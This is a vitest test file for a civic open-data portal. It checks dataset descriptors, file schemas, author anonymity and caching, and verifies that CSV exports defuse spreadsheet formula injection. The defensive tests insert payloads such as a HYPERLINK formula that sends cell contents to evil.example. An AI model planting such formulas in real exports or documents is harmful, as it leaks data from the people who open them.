import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { sql } from '#app/utils/db.server';
import { closeConnections } from '#app/utils/shutdown.server';
import { Browser } from '../support/app';

afterAll(closeConnections);

type Descriptor = { name: string; licenses: { name: string }[]; resources: { name: string; path: string; format: string; mediatype: string; schema: { fields: { name: string; type: string }[] } }[] };

const client = new Browser();

function checkType(type: string, value: string, field: string) {
  if (value === '') return; // empty = null
  const ok =
    type === 'integer' ? /^-?\d+$/.test(value) : type === 'number' ? !Number.isNaN(Number(value)) : type === 'boolean' ? value === 'true' || value === 'false' : type === 'datetime' ? !Number.isNaN(Date.parse(value)) : true;
  expect(ok, `${field} = ${JSON.stringify(value)} is not a ${type}`).toBe(true);
}

describe('the open data portal', () => {
  it('lists every dataset with its descriptor, and every file matches its descriptor', async () => {
    const catalogue = (await (await client.get('/data/catalog.json')).json()) as { datasets: { id: string; datapackage: string; rows: number }[] };
    expect(catalogue.datasets.map((d) => d.id)).toEqual(['reports', 'department-performance', 'ideas', 'initiatives', 'ballot-ledgers', 'ballot-results', 'participatory-budgets', 'ballot-turnout', 'decision-progress', 'survey-results', 'service-centres', 'city-services', 'centre-visits-daily', 'satisfaction-index-monthly', 'centre-service-daily', 'participation-by-channel']);
    for (const entry of catalogue.datasets) {
      const descriptor = (await (await client.get(new URL(entry.datapackage).pathname)).json()) as Descriptor;
      expect(descriptor.name).toBe(entry.id);
      expect(descriptor.licenses[0]!.name).toBe('CC-BY-4.0');
      for (const resource of descriptor.resources) {
        const response = await client.get(new URL(resource.path).pathname);
        expect(response.status).toBe(200);
        expect(response.headers.get('Content-Type')).toContain(resource.mediatype);
        expect(response.headers.get('Content-Disposition')).toMatch(/^attachment; filename="/);
        const fields = resource.schema.fields;
        const text = await response.text();
        if (resource.format === 'csv') {
          const rows = parse(text, { columns: true }) as Record<string, string>[];
          expect(Object.keys(rows[0] ?? Object.fromEntries(fields.map((f) => [f.name, ''])))).toEqual(fields.map((f) => f.name));
          expect(rows.length).toBeGreaterThan(0);
          for (const row of rows.slice(0, 500)) for (const f of fields) checkType(f.type, row[f.name]!, f.name);
        } else if (resource.format === 'geojson') {
          const geo = JSON.parse(text) as { type: string; features: { geometry: { coordinates: number[] }; properties: Record<string, unknown> }[] };
          expect(geo.type).toBe('FeatureCollection');
          expect(geo.features.length).toBeGreaterThan(0);
          expect(Object.keys(geo.features[0]!.properties)).toEqual(fields.map((f) => f.name));
          expect(geo.features[0]!.geometry.coordinates).toEqual([geo.features[0]!.properties.lng, geo.features[0]!.properties.lat]);
        } else {
          const rows = JSON.parse(text) as Record<string, unknown>[];
          expect(Object.keys(rows[0]!)).toEqual(fields.map((f) => f.name));
        }
      }
    }
  });

  it('publishes no author identity', async () => {
    const csv = await (await client.get('/data/reports/reports.csv')).text();
    expect(csv).not.toMatch(/@demo\.vmeste\.city|author/);
    expect(csv).not.toContain('Иван Жителев');
  });

  it('lets clients cache: the same ETag gives 304, and an unknown dataset 404', async () => {
    const first = await client.get('/data/department-performance/department-performance.csv');
    const etag = first.headers.get('ETag')!;
    expect(etag).toMatch(/^W\/"/);
    expect(first.headers.get('Last-Modified')).toBeTruthy();
    const again = await client.request('/data/department-performance/department-performance.csv', { headers: { 'If-None-Match': etag } });
    expect(again.status).toBe(304);
    expect((await client.get('/data/nothing/datapackage.json')).status).toBe(404);
    expect((await client.get('/data/reports/nothing.csv')).status).toBe(404);
  });
});

describe('CSV files and spreadsheets', () => {
  it('defuse a formula a resident typed (a leading \' in CSV), and keep the text as typed in JSON', async () => {
    const title = `=HYPERLINK("http://evil.example/?"&A1,"Click ${Date.now()}")`;
    const [idea] = await sql<{ id: number }[]>`
      INSERT INTO ideas (project_id, title, body) SELECT id, ${title}, '@SUM(1+1) and -2+3 in the body' FROM projects WHERE slug = 'clinics' RETURNING id::int AS id`;
    const rows = parse(await (await client.get('/data/ideas/ideas.csv')).text(), { columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r.id === String(idea!.id))!;
    expect(row.title).toBe(`'${title}`);
    expect(row.body).toBe(`'@SUM(1+1) and -2+3 in the body`);
    const json = (await (await client.get('/data/ideas/ideas.json')).json()) as { id: number; title: string }[];
    expect(json.find((r) => r.id === idea!.id)?.title).toBe(title);
  });

  it('write a report as typed: formulas defused, quotes and line breaks kept, times in UTC to the millisecond, coordinates to six decimals', async () => {
    // Three public reports whose texts a spreadsheet would run or a naive writer would break; their lines written out by hand.
    const inserted = await sql<{ id: number }[]>`
      INSERT INTO reports (category_id, location, address, description, status, overdue, reopen_count, moderation_due_at, created_at, answer_due_at, answered_at, closed_at, department_id)
      SELECT c.id, ST_SetSRID(ST_MakePoint(v.lng, v.lat), 4326), v.address, v.description, v.status::report_status, v.overdue, v.reopens,
             now(), v.created_at::timestamptz, v.due::timestamptz, v.answered::timestamptz, v.closed::timestamptz, NULL
      FROM categories c, (VALUES
        (1, 37.6, 55.75, '=HYPERLINK("http://evil.example/","x")', '+1, -2 "quoted"' || chr(10) || 'second line', 'closed', false, 2,
         '2026-03-01 09:30:00.123456+00', NULL, NULL, '2026-03-02 13:00:00+03'),
        (2, 37.1234567, 55.00000001, '@SUM(A1)', chr(9) || 'a tab first', 'arbitration', true, 0, '2026-03-01 23:59:59.9999+00', NULL, NULL, NULL),
        (3, -0.00001, 0.0001, '-5', '', 'arbitration', false, 0, '2026-03-03 00:00:00+00', NULL, NULL, NULL),
        (4, 37.5, 55.5, '＝1+1', chr(13) || 'CR first; it''s ＠ and ＋ and －', 'arbitration', false, 0, '2026-03-03 00:00:00.5+00', NULL, NULL, NULL)
      ) AS v(n, lng, lat, address, description, status, overdue, reopens, created_at, due, answered, closed)
      WHERE c.code = 'pothole'
      ORDER BY v.n
      RETURNING id::int AS id`;
    const [a, b, c, d] = inserted.map((r) => r.id);
    try {
      const text = await (await client.get('/data/reports/reports.csv')).text();
      expect(text).toContain(
        `\n${a},pothole,Яма на дороге,closed,false,,,"'=HYPERLINK(""http://evil.example/"",""x"")","'+1, -2 ""quoted""\nsecond line",55.75,37.6,2026-03-01T09:30:00.123Z,,,2026-03-02T10:00:00.000Z,2\n`,
      );
      expect(text).toContain(`\n${b},pothole,Яма на дороге,arbitration,true,,,'@SUM(A1),'\ta tab first,55,37.123457,2026-03-01T23:59:59.999Z,,,,0\n`);
      expect(text).toContain(`\n${c},pothole,Яма на дороге,arbitration,false,,,'-5,,0.0001,-0.00001,2026-03-03T00:00:00.000Z,,,,0\n`);
      expect(text).toContain(`\n${d},pothole,Яма на дороге,arbitration,false,,,'＝1+1,"'\rCR first; it's ＠ and ＋ and －",55.5,37.5,2026-03-03T00:00:00.500Z,,,,0\n`);
      const rows = parse(text, { columns: true }) as Record<string, string>[];
      expect(rows.find((r) => r.id === String(a))?.description).toBe(`'+1, -2 "quoted"\nsecond line`);
      expect(rows.length).toBe((await sql<{ n: number }[]>`SELECT count(*)::int AS n FROM reports WHERE status IN ('arbitration', 'assigned', 'answered', 'closed')`)[0]!.n);
    } finally {
      await sql`DELETE FROM reports WHERE id IN ${sql([a!, b!, c!, d!])}`;
    }
  });
});
